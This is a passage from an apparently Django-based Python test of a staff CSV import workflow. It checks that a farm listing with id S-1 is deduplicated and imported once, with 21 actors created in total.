    # Enough distinct identifiers around them for the column to be an identifier.
    filler = [[f"Z-{n}", f"Ferme Z{n}", "Blois"] for n in range(20)]
    path = csv_file(
        tmp_path, ["id", "Nom", "Commune"], [["S-1", "Ferme", "Saint-Ouen"], other, *filler]
    )
    run = analysed(source, path, default_kind=ActorKind.PRODUCER)
    client = _client(boss)
    for record in run.records.filter(data__count=PLACE):
        assert client.post(_place_url(run, record), {"commune": "41226"}).status_code == 302
    creates = run.records.filter(action=RecordAction.CREATE, key="S-1").count()
    assert creates <= 1, f"{creates} rows will create the listing S-1"
    assert client.post(f"/staff/imports/{run.pk}/confirmer/").status_code == 302
    assert client.post(f"/staff/imports/{run.pk}/etape/").status_code == 302
    run.refresh_from_db()
    assert run.status == RunStatus.DONE, (run.status, run.error)
    assert Actor.objects.filter(source=source.code, source_key="S-1").count() == 1
    assert Actor.objects.filter(source=source.code).count() == 21
